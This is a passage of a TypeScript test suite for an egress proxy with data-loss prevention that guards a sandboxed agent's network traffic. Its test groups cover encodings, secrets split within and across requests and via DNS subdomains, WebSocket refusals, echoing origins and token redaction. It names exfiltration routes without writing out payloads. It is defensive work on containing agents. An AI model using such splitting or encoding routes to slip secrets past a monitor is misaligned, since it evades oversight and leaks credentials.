      const tls = tlsOrigin.requests.find((r) => r.url.includes('ctl-json-tls'))
      expect(tls?.headers.authorization === `Bearer ${ROUTE_TOKEN}`).toBe(true)
      // The multipart control arrived byte for byte.
      const sent = controls.find((c) => c.id === 'ctl-multipart-base64-tls')?.request.body
      expect(tlsOrigin.requests.find((r) => r.url.includes('ctl-multipart-base64-tls'))?.body.equals(sent ?? Buffer.alloc(0))).toBe(true)
    })
  })

  describe('path canonicalization on a route with paths: ["/repos/me/"]', () => {
    let results: Map<string, BoxResponse>
    beforeAll(async () => {
      results = await runGroups(pathCases.map((c) => [c]))
    })
    it.each(pathCases)('$id', (c) => expectCase(c, results.get(c.id)))
  })

  describe('encodings', () => {
    let results: Map<string, BoxResponse>
    beforeAll(async () => {
      results = await runGroups(encodingCases.map((c) => [c]))
    })
    it.each(encodingCases)('$id', (c) => expectCase(c, results.get(c.id)))
  })

  describe('splits within one request', () => {
    let results: Map<string, BoxResponse>
    beforeAll(async () => {
      const dns = splitCases.filter((c) => c.id.includes('dns'))
      results = new Map([...(await runGroups(splitCases.filter((c) => !dns.includes(c)).map((c) => [c]))), ...(await runGroups(dns.map((c) => [c]), { subdomains: true }))])
    })
    it.each(splitCases)('$id', (c) => expectCase(c, results.get(c.id)))
  })

  describe('splits across requests', () => {
    const results = new Map<string, BoxResponse>()
    beforeAll(async () => {
      for (const g of acrossGroups) for (const [id, r] of await runGroups([g.group], { subdomains: g.dns })) results.set(id, r)
    })
    it.each(acrossGroups)('$name: the first pieces pass, the completing request is refused', ({ group, secret }) => {
      for (const c of group) expectCase(c, results.get(c.id))
      // Never the whole secret, in any case, in anything an origin logged.
      for (const form of [secret, secret.toLowerCase()]) expect(origins().some((o) => o.loggedBuffers().some((b) => b.includes(form)))).toBe(false)
    })
  })

  describe('WebSocket', () => {
    let results: Map<string, WsOutcome>
    beforeAll(async () => {
      results = await runWs(wsCases)
    })
    const printable = (e: WsEvent | undefined) => (e?.type === 'close' ? { type: e.type, code: e.code, reason: scrub(e.reason).slice(0, 200) } : e?.type === 'frame' ? { type: e.type, text: scrub(Buffer.from(e.b64, 'base64').toString('utf8')).slice(0, 200) } : e)
    it.each(wsCases)('$id', (c) => {
      const outcome = results.get(c.id)
      expect(outcome?.connect === '' || /^HTTP\/1\.[01] 200/.test(outcome?.connect ?? '')).toBe(true)
      expect(outcome?.handshake.split('\r\n')[0]).toBe('HTTP/1.1 101 Switching Protocols')
      const events = (outcome?.events ?? []).map(printable)
      outcomes.push(`${c.id}: ${JSON.stringify(events)}`)
      const steps = c.session.steps.length
      if (c.refusedAtStep === undefined) {
        // A reply per message, then the origin's answer to our close.
        expect(events.slice(0, steps).every((e) => e?.type === 'frame')).toBe(true)
        expect(events[steps]).toMatchObject({ type: 'close', code: 1000 })
      } else {
        expect(events.slice(0, c.refusedAtStep).every((e) => e?.type === 'frame')).toBe(true)
        expect(events[c.refusedAtStep]).toMatchObject({ type: 'close', code: 1008, reason: expect.stringMatching(/^bottle-egress: dlp: /) })
        if (c.reason) expect(events[c.refusedAtStep]).toMatchObject({ reason: expect.stringMatching(c.reason) })
      }
      // What the origin received on this connection: exactly the messages that should pass, no other data frame.
      const handshake = originRequests(c.id).find((r) => r.kind === 'websocket')
      expect(handshake).toBeDefined()
      const origin = origins().find((o) => o.requests.includes(handshake!))!
      const dataFrames = origin.frames.filter((f) => f.connection === handshake!.connection && f.opcode !== 0x8 && f.opcode !== 0x9 && f.opcode !== 0xa)
      const messages = origin.messages.filter((m) => m.connection === handshake!.connection).map((m) => scrub(m.payload.toString('utf8')))
      expect(messages).toEqual(c.delivered.map((m) => scrub(m.toString('utf8'))))
      expect(dataFrames.length).toBe(c.refusedAtStep === undefined ? c.session.steps.reduce((n, s) => n + s.frames.length, 0) : c.delivered.length)
    })
  })

  describe('reflection: origins that echo the request show the agent only a placeholder', () => {
    /** The route token in every spelling an echo could carry it: as is, percent-encoded, and base64 at each byte alignment. */
    const holdsToken = (raw: Buffer) => spellings(ROUTE_TOKEN).some((form) => raw.includes(form))
    let results: Map<string, BoxResponse>
    let ws: Map<string, WsOutcome>
    beforeAll(async () => {
      results = await runGroups(reflectionCases.map((c) => [c]))
      ws = await runWs(wsEchoCases)
    })

    it.each(reflectionCases)('$id: the echo round-tripped, the token never reached the agent', (c) => {
      const r = results.get(c.id)
      expectCase(c, r)
      // The origin got the real token: the proxy injected it.
      const seen = tlsOrigin.requests.find((q) => q.url.includes(c.id))
      expect(seen?.headers.authorization === `Bearer ${ROUTE_TOKEN}`).toBe(true)
      // Raw bytes as the agent received them (heads, chunk framing), and decoded.
      expect(holdsToken(Buffer.concat([r?.rawHead ?? Buffer.alloc(0), r?.rawBody ?? Buffer.alloc(0)]))).toBe(false)
      expect(holdsToken(r?.body ?? Buffer.alloc(0))).toBe(false)
      const echo = JSON.parse(scrub(r?.body.toString('utf8') ?? '{}')) as { headers?: Record<string, string>; body?: string; authorizationBase64?: string; basic?: string }
      // Parsed from scrubbed text, so a failure could never print the token.
      expect(echo.headers?.authorization).toBe(`Bearer ${REDACTED_MARKER}`)
      expect(echo.body).toContain(c.id)
      expect(echo.authorizationBase64).toContain(REDACTED_MARKER)
      expect(echo.basic).toContain(REDACTED_MARKER)
    })

    it.each(wsEchoCases)('$id: the WebSocket echo round-tripped, the token never reached the agent', ({ id }) => {
      const outcome = ws.get(id)
      expect(outcome?.handshake.split('\r\n')[0]).toBe('HTTP/1.1 101 Switching Protocols')
      const handshake = tlsOrigin.requests.find((q) => q.kind === 'websocket' && q.url.includes(id))
      expect(handshake?.headers.authorization === `Bearer ${ROUTE_TOKEN}`).toBe(true)
      expect(holdsToken(outcome?.raw ?? Buffer.alloc(0))).toBe(false)
      const quoted = (outcome?.handshake ?? '').split('\r\n').find((l) => l.toLowerCase().startsWith('x-echo-authorization:'))
      expect(scrub(quoted ?? '')).toBe(`X-Echo-Authorization: Bearer ${REDACTED_MARKER}`)
      const reply = outcome?.events[0]
      expect(reply?.type).toBe('frame')
      const echo = JSON.parse(scrub(reply?.type === 'frame' ? Buffer.from(reply.b64, 'base64').toString('utf8') : '{}')) as { authorization?: string; message?: string; authorizationBase64?: string; basic?: string }
      expect(echo).toMatchObject({ authorization: `Bearer ${REDACTED_MARKER}`, message: `hello from ${id}` })
      expect(echo.authorizationBase64).toContain(REDACTED_MARKER)
      expect(echo.basic).toContain(REDACTED_MARKER)
    })
  })

  describe('afterwards', () => {
    it('no fake credential, in any case, ever reached an origin; the route token only in the Authorization the proxy injected', () => {
      const buffers = origins().flatMap((o) => o.loggedBuffers())
      for (const secret of FAKES) for (const form of [secret, secret.toLowerCase(), secret.toUpperCase()]) expect(buffers.some((b) => b.includes(form))).toBe(false)
      const withoutAuthorization = origins().flatMap((o) => [
        ...o.requests.flatMap((r) => {
          const headers: string[] = []
          for (let i = 0; i + 1 < r.rawHeaders.length; i += 2) if (r.rawHeaders[i]!.toLowerCase() !== 'authorization') headers.push(r.rawHeaders[i]!, r.rawHeaders[i + 1]!)
          return [Buffer.from(`${r.method} ${r.url}\n${headers.join('\n')}`), r.body]
        }),
        ...o.frames.map((f) => f.payload),
        ...o.messages.map((m) => m.payload),
      ])
      expect(withoutAuthorization.some((b) => b.includes(ROUTE_TOKEN))).toBe(false)
      // Every authorization the TLS origin saw is the injected token, never anything the agent chose.
      for (const r of tlsOrigin.requests.filter((q) => q.url.startsWith('/c/') || q.url.startsWith('/echo/'))) expect(r.headers.authorization === `Bearer ${ROUTE_TOKEN}` || r.headers.authorization === undefined).toBe(true)
    })

    it("the proxy's logs hold no secret value", async () => {
      const lines: string[] = []
      for await (const line of driver.logs(AGENT, 'sidecars')) lines.push(line)
      const logs = lines.join('\n')
      expect(logs.length).toBeGreaterThan(0)
      for (const secret of [ROUTE_TOKEN, ...FAKES]) for (const form of [secret, secret.toLowerCase()]) expect(logs.includes(form)).toBe(false)
      // For the record: the proxy's own decision lines for the path cases (the path as it judged it).
      for (const line of lines) if (pathCases.some((c) => line.includes(c.id))) outcomes.push(`proxy: ${scrub(line.trim()).slice(0, 400)}`)
    })
  })
})
